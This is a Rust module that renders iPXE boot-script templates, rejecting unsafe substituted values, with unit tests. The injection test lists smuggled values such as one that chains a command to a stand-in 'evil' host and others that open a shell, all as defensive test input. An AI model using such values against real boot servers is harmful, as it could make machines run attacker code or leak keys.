//! Boot script rendering.
//!
//! Templates use iPXE's own `${name}` syntax. Names we know are substituted; every other
//! `${...}` (iPXE settings such as `${netX/mac}`) is left for iPXE to expand. Substituted values
//! are checked so that none can end a line, start a comment, chain another command or smuggle a
//! setting reference into the script.

use std::collections::BTreeMap;

/// Used when a release brings no template. `${secrets_arg}` expands to
/// ` b2c.extra_args_url="<url>"` when the gateway has secrets and to nothing otherwise.
pub const DEFAULT_TEMPLATE: &str = "#!ipxe\nkernel ${kernel_url} ${cmdline}${secrets_arg}\ninitrd ${initrd_url}\nboot\n";

/// Longest template accepted (iPXE scripts are small; anything larger is a mistake).
pub const MAX_TEMPLATE_BYTES: usize = 64 * 1024;

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum RenderError {
    #[error("template must start with #!ipxe")]
    NotAnIpxeScript,
    #[error("template is larger than {MAX_TEMPLATE_BYTES} bytes")]
    TooLarge,
    #[error("value of ${{{name}}} is unsafe in a boot script: {reason}")]
    UnsafeValue { name: String, reason: &'static str },
    #[error("template variable name {0:?} is not allowed")]
    BadVariableName(String),
}

/// Values substituted into a template, by variable name.
#[derive(Debug, Default, Clone)]
pub struct Vars(BTreeMap<String, String>);

impl Vars {
    pub fn new() -> Self {
        Vars::default()
    }

    /// Adds a variable after checking that its value is safe inside an iPXE command line.
    pub fn set(&mut self, name: &str, value: impl Into<String>) -> Result<(), RenderError> {
        if !valid_var_name(name) {
            return Err(RenderError::BadVariableName(name.to_string()));
        }
        let value = value.into();
        check_value(name, &value)?;
        self.0.insert(name.to_string(), value);
        Ok(())
    }

    pub fn get(&self, name: &str) -> Option<&str> {
        self.0.get(name).map(String::as_str)
    }
}

/// Variable names: what iPXE would never use for its own settings (no `/`, `:` or `.`).
pub fn valid_var_name(name: &str) -> bool {
    !name.is_empty() && name.len() <= 64 && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
}

/// Checks a piece of template text that is spliced into a template before rendering (a
/// release's kernel command line): one line, no command separators, `${...}` allowed.
pub fn check_fragment(name: &str, value: &str) -> Result<(), RenderError> {
    check_line(name, value, true)
}

fn check_value(name: &str, value: &str) -> Result<(), RenderError> {
    check_line(name, value, false)
}

fn check_line(name: &str, value: &str, allow_references: bool) -> Result<(), RenderError> {
    let unsafe_value = |reason| Err(RenderError::UnsafeValue { name: name.to_string(), reason });
    if value.len() > 16 * 1024 {
        return unsafe_value("too long");
    }
    if value.chars().any(|c| c.is_control()) {
        return unsafe_value("contains a control character (newline, tab, …)");
    }
    // "$" anywhere, or "{" right after a template's "$", could form a setting reference.
    if !allow_references && (value.contains('$') || value.starts_with('{')) {
        return unsafe_value("contains a ${...} setting reference");
    }
    for word in value.split(' ') {
        if word == "&&" || word == "||" {
            return unsafe_value("contains a command separator");
        }
        if word.starts_with('#') {
            return unsafe_value("contains a comment marker");
        }
    }
    Ok(())
}

/// Checks a template before it is stored or used.
pub fn check_template(template: &str) -> Result<(), RenderError> {
    if template.len() > MAX_TEMPLATE_BYTES {
        return Err(RenderError::TooLarge);
    }
    if !template.starts_with("#!ipxe") {
        return Err(RenderError::NotAnIpxeScript);
    }
    Ok(())
}

/// Substitutes the known variables of `template`; unknown `${...}` pass through untouched.
pub fn render(template: &str, vars: &Vars) -> Result<String, RenderError> {
    check_template(template)?;
    let mut out = String::with_capacity(template.len() + 1024);
    let mut rest = template;
    while let Some(start) = rest.find("${") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        match after.find('}') {
            Some(end) => {
                let name = &after[..end];
                match vars.get(name) {
                    Some(value) => out.push_str(value),
                    None => {
                        out.push_str("${");
                        out.push_str(name);
                        out.push('}');
                    }
                }
                rest = &after[end + 1..];
            }
            None => {
                out.push_str(&rest[start..]);
                rest = "";
            }
        }
    }
    out.push_str(rest);
    if !out.ends_with('\n') {
        out.push('\n');
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn vars(pairs: &[(&str, &str)]) -> Vars {
        let mut v = Vars::new();
        for (k, val) in pairs {
            v.set(k, *val).unwrap();
        }
        v
    }

    #[test]
    fn default_template_renders_with_secrets() {
        let v = vars(&[
            ("kernel_url", "https://s3/k?X-Amz-Signature=1"),
            ("initrd_url", "https://s3/i"),
            ("cmdline", "console=ttyS0 b2c.container=\"docker://x\""),
            ("secrets_arg", " b2c.extra_args_url=\"https://sec/secrets/TOKEN\""),
        ]);
        let out = render(DEFAULT_TEMPLATE, &v).unwrap();
        assert_eq!(
            out,
            "#!ipxe\nkernel https://s3/k?X-Amz-Signature=1 console=ttyS0 b2c.container=\"docker://x\" b2c.extra_args_url=\"https://sec/secrets/TOKEN\"\ninitrd https://s3/i\nboot\n"
        );
    }

    #[test]
    fn ipxe_variables_pass_through() {
        let v = vars(&[("gateway", "gw1")]);
        let out = render("#!ipxe\necho ${gateway} ${netX/mac} ${platform} ${unknown_thing} ${\n", &v).unwrap();
        assert_eq!(out, "#!ipxe\necho gw1 ${netX/mac} ${platform} ${unknown_thing} ${\n");
    }

    #[test]
    fn values_cannot_inject_lines_or_commands() {
        let mut v = Vars::new();
        for bad in ["x\nshell", "x\r\nshell", "x\tshell", "a || shell", "a && chain http://evil/", "a #comment", "${netX/mac}", "x\u{0}y", "x\u{85}y"] {
            assert!(matches!(v.set("cmdline", bad), Err(RenderError::UnsafeValue { .. })), "{bad:?} accepted");
        }
        assert!(v.get("cmdline").is_none());
    }

    #[test]
    fn values_cannot_assemble_a_setting_reference() {
        // "$" + "{privkey}" from two values, or a template "$" followed by "{...}".
        let mut v = Vars::new();
        assert!(v.set("a", "$").is_err());
        assert!(v.set("b", "{privkey}").is_err());
        assert!(v.set("c", "a{b}").is_ok());
    }

    #[test]
    fn fragments_may_reference_variables_but_not_break_lines() {
        assert!(check_fragment("cmdline", "console=ttyS0 b2c.extra_args_url=\"${secrets_url}\" h=${netX/mac}").is_ok());
        assert!(check_fragment("cmdline", "a\nboot").is_err());
        assert!(check_fragment("cmdline", "a || b").is_err());
    }

    #[test]
    fn variable_names_are_restricted() {
        let mut v = Vars::new();
        assert!(v.set("net0/mac", "x").is_err());
        assert!(v.set("", "x").is_err());
        assert!(v.set("a b", "x").is_err());
    }

    #[test]
    fn templates_must_be_ipxe_scripts() {
        assert_eq!(render("kernel x", &Vars::new()), Err(RenderError::NotAnIpxeScript));
        let big = format!("#!ipxe\n{}", "x".repeat(MAX_TEMPLATE_BYTES));
        assert_eq!(render(&big, &Vars::new()), Err(RenderError::TooLarge));
    }
}
